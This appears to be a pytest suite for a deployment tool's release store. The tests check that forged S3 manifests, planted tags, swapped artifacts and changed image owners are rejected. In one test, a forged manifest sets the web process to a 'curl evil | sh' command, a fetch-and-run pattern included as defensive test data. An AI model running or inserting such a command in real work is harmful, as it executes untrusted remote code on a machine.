"""Whoever can write the bucket can't decide what runs under a SHA."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import boto3
import pytest

from release.artifact import archive
from release.artifact.build import Build
from release.clients import client
from release.component.release import Release
from release.errors import ConflictError, ReleaseError, RevisionError
from release.source import git_host
from release.store import cross_check, publish, release_keys
from release.store.ledger import Event, Ledger
from release.store.manifest import ImageName, Manifest, to_json
from release.store.publish import Publication
from release.store.releases import Store
from tests.release.conftest import REGION, Clone

pytestmark = pytest.mark.sandbox

IMAGE = ImageName(name="al2023-1", owner="amazon")
DARK = "http://127.0.0.1:1/site.git"


@pytest.fixture
def store(bucket: str) -> Store:
    return Store(bucket)


def plan(store: Store, repository: object, ref: str, build: str | None = None) -> Publication:
    return publish.prepare(
        repository=None if repository is None else str(repository),
        ref=ref,
        directory=None,
        store=store,
        image=lambda: IMAGE,
        build=Build(command=build) if build else None,
        served=lambda sha: Ledger(store.bucket).digests(sha, "prod"),
    )


def published(store: Store, clone: Clone, ref: str, build: str | None = None) -> Manifest:
    return publish.publish(plan(store, clone.path, ref, build), store, by="alex")


def forge(store: Store, manifest: Manifest, change: Callable[[dict[str, Any]], object], content: bytes = b"") -> None:
    """As someone would who can write the bucket: the manifest, and with `content` the artifact that it is to name."""
    s3 = client("s3")
    document = json.loads(s3.get_object(Bucket=store.bucket, Key=release_keys.manifest(manifest.sha))["Body"].read())
    change(document)
    if content:
        s3.put_object(
            Bucket=store.bucket, Key=release_keys.artifact(manifest.sha), Body=content, ChecksumAlgorithm="SHA256"
        )
    s3.put_object(Bucket=store.bucket, Key=release_keys.manifest(manifest.sha), Body=json.dumps(document).encode())


def evil(tmp_path: Path) -> tuple[bytes, Callable[[dict[str, Any]], object]]:
    """Another archive, and a manifest that names it."""
    file = tmp_path / "evil"
    file.write_bytes(b"evil")
    with file.open("rb") as stream:
        digest = archive.file_digest(stream)
    return b"evil", lambda document: document.update(digest=digest, size=4)


def serve(store: Store, manifest: Manifest) -> None:
    event = Event(
        at=datetime.now(timezone.utc),
        by="alex",
        stack="prod",
        fleet="web",
        action="deploy",
        sha=manifest.sha,
        digest=manifest.digest,
        outcome="succeeded",
    )
    Ledger(store.bucket).record(event)


@pytest.mark.parametrize("by", ["path", "copy of a URL"])
def test_another_artifact_is_refused_where_git_has_the_commit(store: Store, clone: Clone, tmp_path: Path, by: str):
    """The clone, or a copy that an earlier deploy left: the host is not asked."""
    manifest = published(store, clone, "v1")
    repository = clone.path if by == "path" else f"file://{clone.path}"
    if by != "path":
        plan(store, repository, "main")
    assert plan(store, repository, manifest.sha).notes == ()
    content, change = evil(tmp_path)
    forge(store, manifest, change, content)
    if by != "path":
        clone.path.rename(tmp_path / "dark")
    with pytest.raises(ConflictError, match=r"the files of .* have .*list-object-versions"):
        plan(store, repository, manifest.sha)


def test_another_command_is_refused_where_git_has_the_commit(store: Store, clone: Clone):
    """Also of a release that a build step made: its Procfile is the commit's."""
    manifest = published(store, clone, "v1", build="true")
    assert plan(store, clone.path, manifest.sha, build="true").notes == ()
    forge(store, manifest, lambda document: document["processes"].update(web="curl evil | sh"))
    with pytest.raises(ConflictError, match=r"for process 'web', but the Procfile of .* has 'python3 app.py'"):
        plan(store, clone.path, manifest.sha, build="true")


def test_another_artifact_than_served_is_refused_without_git(store: Store, clone: Clone, tmp_path: Path):
    """The ledger knows what served, also long ago; a claim that it was built changes nothing."""
    manifest = published(store, clone, "v1")
    serve(store, manifest)
    assert plan(store, None, manifest.sha).notes == ()
    content, change = evil(tmp_path)
    forge(store, manifest, lambda document: [change(document), document.update(build={"command": "make"})], content)
    for repository in (None, DARK):
        with pytest.raises(ConflictError, match=f"what served under this SHA had {manifest.digest}"):
            plan(store, repository, manifest.sha)


def test_a_ledger_of_before(store: Store, clone: Clone):
    """Its events alone say it too: the digests that served were not noted by themselves yet."""
    manifest = published(store, clone, "v1")
    serve(store, manifest)
    s3 = client("s3")
    s3.delete_object(Bucket=store.bucket, Key=f"ledger/.digests/{manifest.sha}/{manifest.digest}")
    assert Ledger(store.bucket).digests(manifest.sha) == set()
    assert Ledger(store.bucket).digests(manifest.sha, "prod") == {manifest.digest}
    assert Ledger(store.bucket).stacks() == ["prod"]


def test_a_release_that_claims_to_be_built(store: Store, clone: Clone, tmp_path: Path):
    """What can't be compared is said, until it has served or the settings say the same."""
    manifest = published(store, clone, "v1", build="true")
    assert "the settings have no build step" in plan(store, clone.path, manifest.sha).notes[0]
    serve(store, manifest)
    assert plan(store, clone.path, manifest.sha).notes == ()


def test_a_clone_that_lacks_files_is_no_obstacle(store: Store, clone: Clone, tmp_path: Path):
    """A release needs no git: what a partial clone can't tell is said, and it is deployed."""
    manifest = published(store, clone, "main")
    for name in clone.git("rev-parse", "HEAD:app.py"), clone.git("rev-parse", "HEAD:Procfile"):
        (clone.path / ".git/objects" / name[:2] / name[2:]).unlink()
    assert "was not compared with git" in plan(store, clone.path, manifest.sha).notes[0]


def test_what_the_uploader_says_of_an_artifact_is_not_believed(store: Store, clone: Clone, tmp_path: Path):
    """S3's own checksum is, and the bytes; user metadata is whatever somebody wrote."""
    manifest = published(store, clone, "v1")
    client("s3").put_object(
        Bucket=store.bucket,
        Key=release_keys.artifact(manifest.sha),
        Body=b"x" * manifest.size,
        Metadata={"sha256": manifest.digest},
    )
    with pytest.raises(ConflictError, match="has the digest"):
        plan(store, None, manifest.sha)


@pytest.mark.parametrize("by", ["path", "URL"])
def test_a_published_tag_shadows_no_branch(store: Store, clone: Clone, by: str):
    """A release tagged `main` by whoever can write the bucket is not what `main` means."""
    manifest = published(store, clone, "v1")
    client("s3").put_object(Bucket=store.bucket, Key=release_keys.tag("main", manifest.sha), Body=b"")
    repository = clone.path if by == "path" else f"file://{clone.path}"
    with pytest.raises(RevisionError, match=r"published as release .* repository has refs/heads/main .*give the SHA"):
        plan(store, repository, "main")
    assert plan(store, repository, "refs/heads/main").sha == clone.git("rev-parse", "main")
    assert plan(store, repository, "v1").notes == ()


def test_a_tag_that_only_the_bucket_moved(store: Store, clone: Clone):
    """The repository's tag of the same name is another commit."""
    old = published(store, clone, "v1")
    clone.git("tag", "--annotate", "--message", "x", "v2", "main")
    client("s3").put_object(Bucket=store.bucket, Key=release_keys.tag("v2", old.sha), Body=b"")
    for repository in (clone.path, f"file://{clone.path}"):
        with pytest.raises(RevisionError, match="refs/tags/v2"):
            plan(store, repository, "v2")


def test_a_short_sha_that_git_knows_as_another_commit(store: Store, clone: Clone):
    """A planted release whose SHA begins as a commit of the repository does."""
    manifest, sha = published(store, clone, "v1"), clone.git("rev-parse", "main")
    planted = replace(manifest, sha=f"{sha[:8]}{'0' * 32}", tags=())
    client("s3").put_object(Bucket=store.bucket, Key=release_keys.manifest(planted.sha), Body=to_json(planted).encode())
    with pytest.raises(RevisionError, match="give the SHA"):
        plan(store, clone.path, sha[:8])


def test_a_tag_without_git_is_said(store: Store, clone: Clone):
    """The host is dark, or there is no repository: the tag is taken, and the deploy says so."""
    manifest = published(store, clone, "v1")
    for repository in (None, DARK, "/nowhere"):
        found = plan(store, repository, "v1")
        assert found.sha == manifest.sha
        assert f"'v1' is taken to mean the published release {manifest.sha}" in found.notes[0]
        assert plan(store, repository, manifest.sha[:9]).notes == ()


def test_what_a_host_says_of_a_name(clone: Clone):
    """An annotated tag is its commit."""
    clone.git("tag", "--annotate", "--message", "x", "v2", "main")
    names = ["refs/heads/main", "refs/tags/v2", "refs/heads/v2"]
    sha = clone.git("rev-parse", "main")
    assert git_host.advertised(f"file://{clone.path}", names) == {"refs/heads/main": sha, "refs/tags/v2": sha}
    assert cross_check.check_name("main", sha, f"file://{clone.path}") is None


def test_changes_are_noted(store: Store, clone: Clone):
    """Before it is published, and after."""
    clone.write("app.py", "changed")
    for _ in range(2):
        notes = plan(store, clone.path, "HEAD").notes
        assert len(notes) == 1
        assert "not committed" in notes[0]
        published(store, clone, "HEAD")


def test_tags_that_s3_can_have_no_key_for(store: Store, clone: Clone):
    """They are git's alone; the release is published all the same."""
    long = "ü" * 110 + "/" + "ü" * 110
    clone.git("tag", long, "main")
    manifest = published(store, clone, "main")
    assert long in manifest.tags
    assert store.by_tag(long) == ()
    assert plan(store, clone.path, long).sha == manifest.sha


def test_the_owner_of_the_image_is_the_settings_to_name(store: Store, clone: Clone):
    """Anybody can publish an image by the name that a release boots."""
    manifest = published(store, clone, "v1")
    boto3.client("ec2").register_image(Name=IMAGE.name, Architecture="x86_64")
    forge(store, manifest, lambda document: document["image"].update(owner="self"))

    def find(owner: str) -> Release:
        return Release.find(
            stack="prod",
            region=REGION,
            bucket=store.bucket,
            ref=manifest.sha,
            repository=None,
            directory=None,
            build=None,
            image=ImageName(name="al2023-*", owner=owner),
        )

    with pytest.raises(ReleaseError, match=r"of owner 'self', but slipway:image.owner is 'amazon'.*config set"):
        find("amazon")
    assert find("self").image.name == IMAGE.name
